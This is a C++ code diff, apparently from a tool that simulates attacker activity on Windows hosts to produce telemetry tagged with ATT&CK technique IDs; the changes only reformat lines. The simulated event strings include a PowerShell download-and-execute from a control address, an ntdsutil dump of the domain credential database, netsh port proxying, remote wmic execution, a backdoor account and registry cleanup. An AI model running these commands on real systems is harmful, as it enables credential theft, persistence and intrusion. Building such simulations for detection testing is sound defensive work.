@@ -45,8 +45,8 @@ void hideInProcesses(Intrusion& at, const Desk& desk, const Process& loader, con
     at.r.startThread(at.soon(), loader, desk.explorer, "");
     at.r.createPipe(at.soon(), desk.explorer, std::format("\\MSSE-{}-server", at.time / second % 10'000));
     at.r.setAttack({"T1574.001"});
-    const Process copy = at.r.start(at.soon(), loader, "C:\\Users\\Public\\Libraries\\OneDrive.exe",
-        "C:\\Users\\Public\\Libraries\\OneDrive.exe");
+    const Process copy = at.r.start(
+        at.soon(), loader, "C:\\Users\\Public\\Libraries\\OneDrive.exe", "C:\\Users\\Public\\Libraries\\OneDrive.exe");
     at.r.loadImage(at.soon(), copy, "C:\\Users\\Public\\Libraries\\version.dll", "");
 }
 
@@ -76,8 +76,7 @@ void proxyThroughSystem(Intrusion& at, const Desk& desk, const Process& loader)
     const Process shell = at.run(loader, "netsh.exe",
         std::format("netsh interface portproxy add v4tov4 listenport=9443 connectaddress={} connectport=443",
             at.controlAddress));
-    at.r.setValue(at.soon(), shell,
-        "HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/9443",
+    at.r.setValue(at.soon(), shell, "HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/9443",
         std::format("{}/443", at.controlAddress));
     at.r.setAttack({"T1572"});
     at.r.query(at.soon(), loader, "calm-oak-ridge.trycloudflare.com", "192.0.2.73");
@@ -128,8 +127,8 @@ void moveToServers(Intrusion& at, const Desk& from, const Desk& server, const De
         loader, "wbem\\WMIC.exe", "wmic /node:LARK-SRV2 process call create \"cmd.exe /c whoami > C:\\PerfLogs\\o\""));
     const Process remote = runRemotely(at, server);
     at.r.setAttack({"T1543.003"});
-    at.r.installService(at.soon(), server.services.session, at.fileName,
-        std::format("C:\\Users\\Public\\{}.exe -k", at.fileName));
+    at.r.installService(
+        at.soon(), server.services.session, at.fileName, std::format("C:\\Users\\Public\\{}.exe -k", at.fileName));
     at.r.installService(at.soon(), server.services.session, "winmgr",
         std::format("%COMSPEC% /c powershell.exe -nop -enc {}", base64OfUtf16("iex $env:w")));
     at.r.setAttack({"T1021.006"});
@@ -137,15 +136,16 @@ void moveToServers(Intrusion& at, const Desk& from, const Desk& server, const De
         std::format("ParameterBinding(Invoke-Command): name=\"ScriptBlock\"; value=\"IEX (New-Object "
                     "Net.WebClient).DownloadString('http://{}/c')\"",
             at.controlAddress));
-    const Process plugin = at.run(
-        controller.netServices, "wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding");
+    const Process plugin
+        = at.run(controller.netServices, "wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding");
     const Process shell = at.run(plugin, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" /c hostname");
     at.r.setAttack({"T1003.003"});
-    static_cast<void>(at.run(
-        shell, "ntdsutil.exe", "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\PerfLogs\\ifm\" q q"));
+    static_cast<void>(
+        at.run(shell, "ntdsutil.exe", "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\PerfLogs\\ifm\" q q"));
     at.r.setAttack({"T1136.002"});
-    at.r.createAccount(at.soon(), {.host = controller.session.host, .user = backupUser, .logonId = taken.logonId + 0x51},
-        "support_365", "Support");
+    at.r.createAccount(at.soon(),
+        {.host = controller.session.host, .user = backupUser, .logonId = taken.logonId + 0x51}, "support_365",
+        "Support");
     at.r.setAttack({"T1070.007"});
     at.r.changeKey(at.soon(), remote, "DeleteKey",
         std::format("HKU\\{}\\SOFTWARE\\Microsoft\\Terminal Server Client\\Servers\\LARK-DC1", securityId(backupUser)));
